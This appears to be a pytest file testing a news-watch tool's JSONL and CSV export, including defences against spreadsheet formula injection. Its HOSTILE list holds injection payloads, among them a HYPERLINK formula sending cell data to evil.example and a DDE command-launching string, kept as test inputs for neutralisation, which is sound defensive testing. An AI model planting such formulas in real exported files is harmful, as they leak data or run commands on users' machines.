"""`watchd export`: what leaves the archive, whole, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest

from tests.archive.world import NOW, archive_of
from tests.support.desk import DeskFolder
from tests.support.site import Site
from watchd.cli import jsonl
from watchd.model import Item
from watchd.render.spreadsheet import cell, row
from watchd.values import replace

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "\x00=1+1",
    "|cmd",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula(text: str) -> None:
    (read,) = next(csv.reader([row([text]).rstrip("\r\n")]))
    assert read.startswith("'")
    assert cell(text).startswith("'")


@pytest.mark.parametrize("text", ["Rain", "3 = 4", "1-2", "김정은", "a\nb", "'quoted'", ""])
def test_a_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_a_line_of_csv_is_read_again_as_it_was() -> None:
    cells = ['said "no"', "a, b", "two\nlines", "", "로케트"]
    assert next(csv.reader(io.StringIO(row(cells), newline=""))) == cells
    assert row([None, 7, -7]) == ",7,-7\r\n"


def test_items_go_out_and_come_in_again(desk: DeskFolder, tmp_path: Path) -> None:
    item = Item(key="1", title="로케트 발사", text="two\nlines", author="=A1", lang="ko",
                categories=("one", "two"), url="https://example.org/1", published=NOW)  # fmt: skip
    other = Item(key="2", title="Rain", url="https://example.org/2", lang="en")
    archive_of(desk.path, [("kcna", item), ("wire", other)], apart=timedelta(days=2)).close()
    done = desk.watchd("export", "items")
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line["title"] for line in lines] == ["로케트 발사", "Rain"]
    (tmp_path / "items.jsonl").write_text(done.stdout, "utf-8")
    first, second = jsonl.read(tmp_path / "items.jsonl")
    assert (first.source, second.source) == ("kcna", "wire")
    assert first.item == item
    assert second.item == replace(other, key="2")

    day = f"{NOW - timedelta(days=1):%Y-%m-%d}"
    assert len(desk.watchd("export", "--since", day).stdout.splitlines()) == 1
    assert len(desk.watchd("export", "--until", day).stdout.splitlines()) == 1
    assert len(desk.watchd("export", "--source", "wire").stdout.splitlines()) == 1

    done = desk.watchd("export", "items", "--csv")
    assert done.stdout.startswith("\ufeffid,source,first_seen,")
    read = list(csv.DictReader(io.StringIO(done.stdout.removeprefix("\ufeff"), newline="")))
    assert read[0]["author"] == "'=A1"
    assert read[0]["categories"] == "one · two"
    assert read[1]["title"] == "Rain"


def test_hits_go_out_with_their_words(desk: DeskFolder, site: Site) -> None:
    desk.feed("wire", site.url("/wire.xml"))
    desk.rule("rain", "rain OR storm")
    desk.rule("sun", "sun")
    titles = ["=Rain and a storm", "Sun", "Snow"]
    items = [{"title": t, "link": f"https://example.org/{n}"} for n, t in enumerate(titles)]
    site.feed("/wire.xml", items=items)
    desk.once(NOW)
    lines = desk.watchd("export", "hits").stdout.splitlines()
    told = json.loads(desk.watchd("hits", "--json").stdout)
    told = [{name: one[name] for name in one if name != "rule_marks"} for one in told]
    assert sorted(map(json.loads, lines), key=lambda hit: -hit["id"]) == told
    done = desk.watchd("export", "hits", "--csv", "--rule", "rain")
    (hit,) = csv.DictReader(io.StringIO(done.stdout.removeprefix("\ufeff"), newline=""))
    assert hit["words"] == "Rain · storm"
    assert hit["title"] == "'=Rain and a storm"
    assert hit["status"] == "baseline"


@pytest.mark.parametrize("words", [("items", "--rule", "x"), ("--csv", "--jsonl"), ("rules",)])
def test_what_does_not_go_together(desk: DeskFolder, words: tuple[str, ...]) -> None:
    assert desk.watchd("export", *words).returncode == 2
